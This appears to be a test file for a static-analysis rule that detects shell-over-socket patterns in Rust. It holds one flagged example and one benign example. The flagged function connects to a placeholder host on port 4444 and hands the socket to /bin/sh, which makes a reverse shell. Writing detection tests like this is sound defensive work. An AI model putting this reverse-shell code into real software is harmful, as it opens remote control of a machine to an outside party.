fn shell() {
    let s = TcpStream::connect("example.invalid:4444").unwrap();
    let fd = s.as_raw_fd();
    // ruleid: rust-shell-over-socket
    Command::new("/bin/sh").stdin(unsafe { Stdio::from_raw_fd(fd) }).spawn();
}

fn honest(fd: RawFd) {
    // ok: rust-shell-over-socket
    Command::new("less").stdin(unsafe { Stdio::from_raw_fd(fd) }).spawn();
}
